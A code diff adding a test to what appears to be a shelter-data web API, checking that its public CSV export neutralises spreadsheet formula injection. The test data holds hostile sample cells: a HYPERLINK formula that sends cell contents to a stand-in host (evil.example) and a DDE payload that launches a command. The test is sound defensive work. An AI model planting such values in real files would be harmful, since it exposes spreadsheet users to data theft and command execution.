@@ -308,6 +308,25 @@ def test_hxl_csv_has_the_hashtag_row_and_the_figures(client):
     assert header[0] == "id"
 
 
+def test_hxl_csv_defuses_formulas_in_names_and_addresses(client):
+    """A spreadsheet opening the public file must not run a cell someone typed."""
+    _shelter('=HYPERLINK("http://evil.example/?"&A1,"Click")', 10, address="@SUM(1+1)")
+    _shelter("+cmd|' /C calc'!A0", 10, address="-2+3", district="\tTab")
+    _shelter("Cinema Park", 10, address="Dostyk 1", latitude="-33.5", longitude="-70.6")
+    rows = list(csv.reader(io.StringIO(client.get("/api/v1/shelters.csv").content.decode())))
+    records = [dict(zip(rows[1], row, strict=True)) for row in rows[2:]]
+    cells = {
+        (r["#loc+name"], r["#loc+address"]) for r in records if r["#loc+name"] != "Cinema Park"
+    }
+    assert cells == {
+        ('\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(1+1)"),
+        ("'+cmd|' /C calc'!A0", "'-2+3"),
+    }
+    assert next(r["#adm3+name"] for r in records if r["#loc+name"].startswith("'+")) == "'\tTab"
+    plain = next(r for r in records if r["#loc+name"] == "Cinema Park")
+    assert (plain["#loc+address"], plain["#geo+lat"]) == ("Dostyk 1", "-33.5")  # numbers stay
+
+
 def test_version_changes_when_figures_change(client, django_capture_on_commit_callbacks):
     shelter = _shelter("Cinema", 10)
     client.get("/")
